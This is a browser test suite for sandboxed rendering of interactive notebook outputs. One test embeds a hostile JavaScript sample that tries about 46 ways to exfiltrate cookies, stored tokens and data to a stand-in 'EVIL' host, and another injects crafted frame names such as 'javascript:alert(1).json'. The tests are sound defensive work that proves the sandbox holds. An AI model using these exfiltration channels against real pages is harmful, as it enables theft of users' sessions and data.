"""Interactive outputs in a browser: they draw without a network, and nothing of them gets out of their frame."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator, Mapping
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from knowrepo.pages import theme
from knowrepo.render import interactive
from tests import framesite
from tests.browser import chromium
from tests.framesite import POST, Output, opened

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


def figure(*traces: dict[str, Any], **layout: Any) -> dict[str, Any]:
    """Plotly's data."""
    return {"data": list(traces), "layout": layout, "config": {}, "frames": []}


def bokeh_object(name: str, number: int, **attributes: Any) -> dict[str, Any]:
    """An object of a Bokeh document."""
    return {"type": "object", "name": name, "id": f"p{number}", "attributes": attributes}


def bokeh_line(version: str = "3.4.0") -> dict[str, Any]:
    """A line as Bokeh writes it."""
    points = bokeh_object("ColumnDataSource", 6, data={"type": "map", "entries": [["x", [1, 2, 3]], ["y", [4, 1, 5]]]})
    fields = {name: {"type": "field", "field": name} for name in ("x", "y")}
    line = bokeh_object("GlyphRenderer", 7, data_source=points, glyph=bokeh_object("Line", 8, **fields, line_width=3))
    ranges = {"x_range": bokeh_object("DataRange1d", 2), "y_range": bokeh_object("DataRange1d", 3)}
    scales = {"x_scale": bokeh_object("LinearScale", 4), "y_scale": bokeh_object("LinearScale", 5)}
    root = bokeh_object("Figure", 1, height=200, renderers=[line], below=[bokeh_object("LinearAxis", 9)], **ranges, **scales)
    return {
        "docs_json": {"d": {"version": version, "title": "", "roots": [root]}},
        "render_items": [{"docid": "d", "roots": {"p1": "a-place"}, "root_ids": ["p1"]}],
    }


def widget(name: str, module: str = "@jupyter-widgets/controls", **state: Any) -> dict[str, Any]:
    """A model of a widget."""
    version = "2.0.0"
    versions = {f"_{side}_module_version": version for side in ("model", "view")} | {
        f"_{side}_module": module for side in ("model", "view")
    }
    names = {"_model_name": f"{name}Model", "_view_name": f"{name}View"}
    return {"model_name": f"{name}Model", "model_module": module, "model_module_version": version, "state": versions | names | state}


MAP = """<head><script src="https://cdn.example/leaflet.js"></script><link rel="stylesheet" href="https://cdn.example/leaflet.css">
<style>html, body { height: 100%; margin: 0 } #m { height: 100% }</style></head><body><div id="m"></div></body><script>
var map = L.map("m", { center: [52, 13], zoom: 9 });
L.tileLayer("https://tile.example.org/{z}/{x}/{y}.png").addTo(map);
L.marker([52, 13]).addTo(map);
L.marker([52.1, 13.2], { icon: L.AwesomeMarkers.icon({ icon: "info-sign", markerColor: "red" }) }).addTo(map);
L.markerClusterGroup().addLayer(L.marker([51.9, 13.1])).addTo(map);
$(function () { L.circle([52, 13.3], { radius: 5000 }).addTo(map); });
</script>"""

DRAWN = {
    "plotly": Output("plotly", figure({"type": "bar", "x": ["a", "b"], "y": {"dtype": "i1", "bdata": "AQM="}}), ("plotly",)),
    "old plotly": Output(
        "plotly",
        figure({"type": "heatmapgl", "z": [[1, 2], [3, 4]]}, title="A title", xaxis={"title": "x", "titlefont": {"size": 20}}),
        ("plotly",),
    ),
    "plotly outlines": Output("plotly", figure({"type": "choropleth", "locations": ["DEU", "USA"], "z": [1, 2]}), ("plotly",)),
    "vega": Output(
        "vega",
        {
            "spec": {
                "data": {"values": [{"a": 1, "b": 2}, {"a": 2, "b": 5}]},
                "mark": "bar",
                "encoding": {"x": {"field": "a", "type": "ordinal"}, "y": {"field": "b", "type": "quantitative"}},
            },
            "mode": "vega-lite",
            "options": {},
        },
        ("vega",),
    ),
    "bokeh": Output("bokeh", bokeh_line(), ("bokeh",)),
    "widgets": Output(
        "widgets",
        {
            "state": {
                "a": widget("VBox", children=["IPY_MODEL_b", "IPY_MODEL_c"], layout="IPY_MODEL_l"),
                "b": widget("IntSlider", value=5, description="How many", layout="IPY_MODEL_l", style="IPY_MODEL_s"),
                "c": widget("Button", description="Go", icon="check", layout="IPY_MODEL_l", style="IPY_MODEL_t"),
                "l": widget("Layout", "@jupyter-widgets/base"),
                "s": widget("SliderStyle") | {"state": {}},
                "t": widget("ButtonStyle") | {"state": {}},
            },
            "model_id": "a",
        },
        ("widgets",),
    ),
    "mermaid": Output("mermaid", {"text": "graph TD\n  A[Start] --> B{Choice}"}, ("mermaid",)),
    "a map": Output("html", {"html": MAP}, ("jquery", "leaflet")),
    "a network": Output(
        "html",
        {
            "html": "<div id=n style='height:300px'></div><script>new vis.Network(n, {nodes: new vis.DataSet([{id: 1, label: 'One', shape: 'box'}]),"
            " edges: new vis.DataSet([])}, {})</script>"
        },
        ("vis-network",),
    ),
    "html": Output(
        "html",
        {"html": "<img src='https://pixel.example/a.png'><div id=a></div><script>a.textContent = 'Written by script '.repeat(40)</script>"},
    ),
    "javascript": Output("javascript", {"code": "element.append('Written by script '.repeat(40))"}, ("jquery",)),
}


@pytest.mark.parametrize("name", DRAWN)
def test_an_output_draws_without_a_network(browser: Browser, name: str) -> None:
    """Every kind of output is drawn in its frame; nothing is asked of another host, and neither console nor policy complains."""
    with opened(browser, framesite.files(DRAWN[name])) as view:
        view.drawn()
        assert view.ink() > 150
        assert not view.foreign
        assert not view.errors
        assert view.page.get_attribute("iframe", "title") == "A chart"
        assert view.page.get_attribute("iframe", "sandbox") == "allow-scripts"
        assert not view.page.is_visible(".still")
        height = view.page.evaluate("document.querySelector('iframe').clientHeight")
        assert 20 < height < 1500


ROWS = {"values": [{"a": "x", "b": 3, "c": 1}, {"a": "y", "b": 5, "c": 2}]}
POINTS = {"x": {"field": "c", "type": "quantitative"}, "y": {"field": "b", "type": "quantitative"}}
PICKED = {"condition": {"selection": "pick", "value": "red"}, "value": "grey"}


def lite(version: str, **spec: Any) -> dict[str, Any]:
    """A Vega-Lite chart as the Altair of its time stored it."""
    return {"$schema": f"https://vega.github.io/schema/vega-lite/{version}.json", "data": ROWS, "mark": "point", "encoding": POINTS} | spec


def vega(version: str) -> dict[str, Any]:
    """Bars in the grammar that Vega has had since its version 3."""
    bar = {
        "x": {"scale": "x", "field": "a"},
        "width": {"scale": "x", "band": 1},
        "y": {"scale": "y", "field": "b"},
        "y2": {"scale": "y", "value": 0},
    }
    scales = [
        {"name": "x", "type": "band", "range": "width", "domain": {"data": "rows", "field": "a"}, "padding": 0.1},
        {"name": "y", "range": "height", "domain": {"data": "rows", "field": "b"}},
    ]
    marks = [{"type": "rect", "from": {"data": "rows"}, "encode": {"enter": bar}}]
    schema = f"https://vega.github.io/schema/vega/{version}.json"
    return {"$schema": schema, "width": 90, "height": 90, "data": [{"name": "rows", **ROWS}], "scales": scales, "marks": marks}


STORED: Mapping[str, Mapping[str, Any]] = {
    "Plotly 1": {"application/vnd.plotly.v1+json": {"data": [{"type": "bar", "y": [2, 1]}], "layout": {"title": "T", "titlefont": {"size": 20}}}},
    "plotly.py 2": {"text/html": '<div id="a"></div><script>require(["plotly"], function(Plotly) { Plotly.newPlot("a", [{"y": [1, 3]}], {}) });</script>'},
    "Vega 3": {"application/vnd.vega.v3+json": vega("v3.0")},
    "Vega 4": {"application/vnd.vega.v4+json": vega("v4")},
    "Vega-Lite 2": {"application/vnd.vegalite.v2+json": lite("v2.6.0", selection={"zoom": {"type": "interval", "bind": "scales"}})},
    "Vega-Lite 3": {"application/vnd.vegalite.v3+json": lite("v3.4.0", selection={"pick": {"type": "multi"}}, encoding={**POINTS, "color": PICKED})},
    "Vega-Lite 4": {"application/vnd.vegalite.v4+json": lite("v4.17.0", selection={"pick": {"type": "single"}}, encoding={**POINTS, "color": PICKED})},
    "Vega-Lite 6": {"application/vnd.vegalite.v6.json": lite("v6.1.0", params=[{"name": "grid", "select": "interval", "bind": "scales"}])},
}  # fmt: skip


@pytest.mark.parametrize("name", STORED)
def test_charts_of_other_majors_draw(browser: Browser, name: str) -> None:
    """What a notebook stored with another major of Plotly or Vega than the vendored one is drawn all the same, without a complaint."""
    found = interactive.of(STORED[name], {})
    assert isinstance(found, interactive.Payload)
    with opened(browser, framesite.files(Output(found.view, found.data, found.libraries))) as view:
        view.drawn()
        assert view.ink() > 100
        assert not view.foreign
        assert not view.errors


@pytest.mark.parametrize(
    "output",
    [
        Output("plotly", figure({"type": "quiver", "x": [1], "y": [1]}), ("plotly",)),
        Output("bokeh", {"docs_json": {"d": {"version": "2.4.3", "roots": {"references": [], "root_ids": []}}}, "render_items": []}, ("bokeh",)),
        Output("widgets", {"state": {"a": widget("Figure", "bqplot")}, "model_id": "a"}, ("widgets",)),
        Output("mermaid", {"text": "no such diagram ???"}, ("mermaid",)),
        Output("javascript", {"code": "require(['d3'])"}),
        Output("vega", {"spec": {}, "mode": "vega-lite", "options": {}}, ("no-such-library",)),
        Output("no-such-view", {}, name="out.json", run="auto", libraries=()),
    ],
    ids=["plotly", "bokeh", "widgets", "mermaid", "javascript", "library", "view"],
)  # fmt: skip
def test_what_cannot_be_drawn_says_why_in_one_line(browser: Browser, output: Output) -> None:
    """A newer or older version, a mistake in a script or a missing library leaves the still in its place, with one plain line."""
    with opened(browser, framesite.files(output)) as view:
        assert view.failed().startswith("This output ")
        assert view.page.is_visible(".still")
        assert view.page.locator("iframe").count() == 0
        assert view.page.locator(".frame > .note").count() == 1
        assert not view.errors


def test_foreign_script_runs_only_when_it_is_asked_to(browser: Browser) -> None:
    """HTML with script of its own waits behind a button that the keyboard reaches; running it moves the focus into the frame."""
    output = Output("html", {"html": "<p id=a></p><script>a.textContent = 'ran '.repeat(99)</script>"}, run="click")
    with opened(browser, framesite.files(output)) as view:
        assert view.page.is_visible(".still")
        assert view.page.locator("iframe").count() == 0
        for _ in range(60):
            view.page.keyboard.press("Tab")
            if view.page.evaluate("document.activeElement.className") == "run":
                break
        assert "sandbox" in view.page.inner_text(".frame > .note")
        view.page.keyboard.press("Enter")
        view.drawn()
        assert view.ink() > 150
        assert view.page.evaluate("document.activeElement.tagName") == "IFRAME"


def test_frames_wait_until_they_are_near_and_share_a_library(browser: Browser) -> None:
    """An output far below is loaded when the reader comes to it; a library is fetched once for all frames of a page."""
    far = Output("vega", DRAWN["vega"].data, ("vega",), name="far.json")
    placeholder = f'<div style="height:4000px"></div>{far.placeholder}'
    files = framesite.files(DRAWN["vega"], far)
    files[POST] = files[POST].replace(far.placeholder.encode(), placeholder.encode())
    with opened(browser, files) as view:
        view.drawn()
        assert "posts/a/far.json" not in view.server.asked
        view.page.locator(".frame").last.scroll_into_view_if_needed()
        view.drawn(2)
        assert sum("vega" in path for path in view.server.asked) == 1


def test_without_script_and_in_print_the_still_stands(browser: Browser) -> None:
    """A reader without script sees the still; so does paper, even where the frame has drawn."""
    files = framesite.files(DRAWN["vega"])
    with opened(browser, files, java_script_enabled=False) as view:
        assert view.page.is_visible(".still")
        assert view.page.locator("iframe").count() == 0
    with opened(browser, files) as view:
        view.drawn()
        view.page.emulate_media(media="print")
        assert view.page.is_visible(".still")
        assert not view.page.is_visible("iframe")


def test_an_output_that_cannot_be_fetched_says_so(browser: Browser) -> None:
    """Where the data or a library is not answered (a session that has ended), one line says what to do and the still stays."""
    for path in ("posts/a/out.json", "vega-"):
        files = {name: data for name, data in framesite.files(DRAWN["vega"]).items() if path not in name}
        with opened(browser, files) as view:
            assert "reload the page" in view.failed()
            assert view.page.is_visible(".still")


@pytest.mark.parametrize(
    "name", ["../a/out.json", "/posts/a/out.json", "https://evil.example/out.json", "javascript:alert(1).json", "out.html", ""]
)
def test_only_a_plain_name_beside_the_page_is_fetched(browser: Browser, name: str) -> None:
    """What a placeholder names is a file beside the page or nothing at all, whatever is written there."""
    files = framesite.files(DRAWN["html"])
    files[POST] = files[POST].replace(b'data-frame="out.json"', f'data-frame="{name}"'.encode())
    with opened(browser, files) as view:
        view.page.wait_for_load_state("networkidle")
        assert view.page.locator("iframe").count() == 0
        assert not [path for path in view.server.asked if "out" in path]
        assert not view.foreign


def test_a_frame_decides_its_height_within_bounds(browser: Browser) -> None:
    """Heights that are no number, not positive or beyond 20,000 are ignored, and so is the twenty-first change."""
    code = """
      for (const h of [-5, 0, 1e9, 20000, "x", null, NaN, {}]) parent.postMessage({t: "knowrepo:h", h}, "*");
      for (let at = 0; at < 100; at++) parent.postMessage({t: "knowrepo:h", h: 500 + 10 * at}, "*");
      parent.postMessage({t: "knowrepo:failed", why: "constructor"}, "*")"""
    recorded = """addEventListener('DOMContentLoaded', () => new MutationObserver((records) => {
        for (const record of records) if (record.target.tagName === 'IFRAME') (window.seen ??= []).push(record.target.style.height);
      }).observe(document.body, {subtree: true, attributes: true, attributeFilter: ['style']}))"""
    with framesite.serving(framesite.files(Output("javascript", {"code": code}))) as server:
        context = browser.new_context()
        page = context.new_page()
        page.add_init_script(recorded)
        page.goto(server.address + POST)
        page.wait_for_selector(".frame[data-failed]")
        heights = page.evaluate("window.seen")
        context.close()
    assert 10 < len(heights) <= 20
    assert all(0 < float(height.removesuffix("px")) < 20_000 for height in heights)


CHANNELS = """
const tried = [];
const attempt = (name, run) => { try { run(); } catch (error) {} tried.push(name); };
const add = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
const work = (code) => new Worker(URL.createObjectURL(new Blob([code])));
const call = (window) => {
  const made = new window.RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:" + STUN}]});
  made.createDataChannel("x");
  made.createOffer().then((offer) => made.setLocalDescription(offer));
};
attempt("page", () => fetch(EVIL + parent.document.cookie));
attempt("title", () => { top.document.title = "taken"; });
attempt("cookie", () => fetch(EVIL + document.cookie));
attempt("storage", () => fetch(EVIL + localStorage.getItem("token")));
attempt("database", () => indexedDB.open("x"));
attempt("fetch", () => fetch(EVIL, {mode: "no-cors"}));
attempt("site", () => fetch("../site.json").then((answer) => parent.postMessage({t: "stolen"}, "*")));
attempt("xhr", () => { const ask = new XMLHttpRequest(); ask.open("GET", EVIL); ask.send(); });
attempt("image", () => Element.prototype.setAttribute.call(add("img", {}), "src", EVIL));
attempt("beacon", () => navigator.sendBeacon(EVIL, "secret"));
attempt("socket", () => new WebSocket(EVIL.replace("http", "ws")));
attempt("events", () => new EventSource(EVIL));
attempt("transport", () => new WebTransport(EVIL.replace("http", "https")));
attempt("style", () => add("style", {textContent: `@import "${EVIL}"; body { background: url(${EVIL}) }`}));
attempt("font", () => add("style", {textContent: `@font-face { font-family: x; src: url(${EVIL}) } * { font-family: x }`}));
for (const rel of ["stylesheet", "prefetch", "preload", "icon"]) attempt(rel, () => add("link", {rel, as: "script", href: EVIL}));
attempt("script", () => add("script", {src: EVIL}));
attempt("import", () => import(EVIL));
for (const name of ["video", "embed", "iframe"]) attempt(name, () => add(name, {src: EVIL}));
attempt("object", () => add("object", {data: EVIL}));
attempt("ping", () => add("a", {href: "#", ping: EVIL}).click());
attempt("worker", () => work(`fetch("${EVIL}")`));
attempt("worker's import", () => work(`importScripts("${EVIL}")`));
attempt("calls", () => call(window));
attempt("calls of a nested frame", () => call(add("iframe", {}).contentWindow));
attempt("nested frame", () => add("iframe", {srcdoc: `<img src="${EVIL}"><script>fetch("${EVIL}")<\\/script>`}));
const caller = `<script>(${call})(window)<\\/script>`.replaceAll("STUN", STUN);
const framed = `<iframe srcdoc='${caller.replaceAll("'", "&#39;")}'></iframe>`;
const root = () => add("div", {}).attachShadow({mode: "closed"});
attempt("calls of a page in a nested frame", () => add("iframe", {srcdoc: caller}));
attempt("of one with a script for its address", () => add("iframe", {src: "javascript:" + JSON.stringify(caller)}));
attempt("of one in a shadow tree", () => { root().innerHTML = framed; });
attempt("of one in a copied shadow tree", () => {
  const host = document.createElement("div");
  host.attachShadow({mode: "open", clonable: true}).innerHTML = framed;
  document.body.append(host.cloneNode(true));
});
const declared = `<div><template shadowrootmode=closed>${framed}</template></div>`;
attempt("of one that is written", () => document.write(framed, declared));
attempt("of one in a written document", () => { const made = document.open(); made.write(framed, declared); made.close(); });
attempt("of one in unsafe HTML", () => add("div", {}).setHTMLUnsafe(declared));
attempt("of one in a parsed document", () => document.body.append(...Document.parseHTMLUnsafe(declared).body.children));
attempt("of one while the parent is busy", () => {
  add("iframe", {srcdoc: caller});
  const end = performance.now() + 500;
  while (performance.now() < end);
});
setTimeout(() => {
  attempt("download", () => add("a", {href: EVIL, download: "x"}).click());
  attempt("form", () => add("form", {action: EVIL}).submit());
  attempt("popup", () => window.open(EVIL));
  attempt("navigate the page", () => { top.location = EVIL; });
  attempt("navigate", () => { location = EVIL; });
  attempt("refresh", () => add("meta", {httpEquiv: "refresh", content: "0;url=" + EVIL}));
  parent.postMessage({t: "tried", tried}, "*");
}, 1000);
"""


def test_nothing_gets_out_of_a_frame(browser: Browser) -> None:
    """A hostile output tries to reach the page, its cookies and storage, this site and another host by 46 ways: nothing arrives anywhere."""
    with framesite.serving({"control.html": b""}) as evil, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.settimeout(0.2)
        names = {"EVIL": evil.address, "STUN": stun.getsockname()[1]}
        code = "".join(f"const {name} = {json.dumps(value)};" for name, value in names.items()) + CHANNELS
        with framesite.serving(framesite.files(Output("javascript", {"code": code}))) as server:
            context = browser.new_context()
            context.add_cookies([{"name": "session", "value": "s3cret", "url": server.address}])
            page = context.new_page()
            page.add_init_script(
                "if (self === top) { localStorage.setItem('token', 's3cret'); window.heard = [];"
                " addEventListener('message', ({data}) => { heard.push(data); document.documentElement.dataset[data.t] = 1; }); }"
            )
            pages: list[str] = []
            context.on("page", lambda opened: pages.append(opened.url))
            page.on("download", lambda download: pages.append(download.url))
            page.goto(server.address + POST)
            page.wait_for_selector("html[data-tried]", state="attached")
            heard = page.evaluate("heard")
            assert len(next(message["tried"] for message in heard if message["t"] == "tried")) == 46
            assert {message["t"] for message in heard} <= {"tried", "knowrepo:ready", "knowrepo:h", "knowrepo:drawn"}
            assert page.url == server.address + POST
            assert "taken" not in page.title()
            context.new_page().goto(evil.address + "control.html")
            assert set(evil.asked) - {"favicon.ico"} == {"control.html"}  # every channel asks for ""
            assert len(pages) == 1
            assert "site.json" not in server.asked
            with pytest.raises(TimeoutError):
                stun.recv(1)
            context.close()


def test_the_frame_document_does_nothing_by_itself(browser: Browser) -> None:
    """Opened directly, or framed without a sandbox, it would run at the site's origin: so it stops before it listens."""
    files = framesite.files(DRAWN["html"])
    (document,) = (path for path in files if path.startswith("assets/frame-"))
    files["other.html"] = f'<iframe src="{document}"></iframe>'.encode()
    hit = '{t: "knowrepo:render", view: "html", data: {html: "<p>hit</p><script>parent.hit = 1</script>"}, libraries: [], hosts: []}'
    with opened(browser, files, path=document) as view:
        view.page.evaluate(f"postMessage({hit}, '*')")
        view.page.evaluate("() => new Promise((done) => setTimeout(done, 200))")
        assert view.page.locator("script").count() == 1
        assert view.page.inner_text("body") == ""
        assert view.page.evaluate("window.hit") is None
    with opened(browser, files, path="other.html") as view:
        view.page.evaluate(f"frames[0].postMessage({hit}, '*')")
        view.page.evaluate("() => new Promise((done) => setTimeout(done, 200))")
        assert view.page.evaluate("window.hit") is None


@pytest.mark.parametrize(
    ("hosts", "line"),
    [
        ((), "Pictures from other hosts, such as the tiles of a map, are not loaded."),
        (("tile.example.org",), "This output may load pictures from tile.example.org."),
    ],
    ids=["none", "one"],
)
def test_pictures_come_from_the_hosts_that_the_site_allows(browser: Browser, hosts: tuple[str, ...], line: str) -> None:
    """With ``allow_network`` a map's tiles are loaded from these hosts alone and a line says so; without it a line says that they are not."""
    asked: list[str] = []
    with framesite.serving(framesite.files(DRAWN["a map"], hosts=hosts)) as server:
        context = browser.new_context()
        context.route(re.compile("^https:"), lambda route: route.abort())
        context.on("request", lambda request: asked.append(request.url))
        page = context.new_page()
        page.goto(server.address + POST)
        page.wait_for_selector(".frame[data-drawn] > .note")
        page.evaluate("() => new Promise((done) => setTimeout(done, 300))")
        assert page.inner_text(".frame > .note") == line
        context.close()
    assert {urlsplit(url).hostname for url in asked} - {"127.0.0.1", None} == set(hosts)


def test_dark_pages_show_outputs_on_light_paper(browser: Browser) -> None:
    """Foreign drawings expect white below them: the frame stays light where the page is dark."""
    with opened(browser, framesite.files(DRAWN["html"]), color_scheme="dark") as view:
        view.drawn()
        frame = view.page.frames[1]
        assert frame.evaluate("getComputedStyle(document.documentElement).backgroundColor") == "rgb(255, 255, 255)"


def test_the_policy_of_a_page_grants_frames_only_where_it_has_some() -> None:
    """A page without interactive outputs may not hold any frame, and names no library."""
    files = framesite.files(DRAWN["vega"])
    assert b"frame-src 'self'" in files[POST]
    assert b"frame-src 'none'" in files["index.html"]
    assert b"data-libraries" not in files["index.html"]
    assert theme.policy(("sha256-x",), frames=True).count("'self'") == theme.policy(("sha256-x",)).count("'self'") + 1
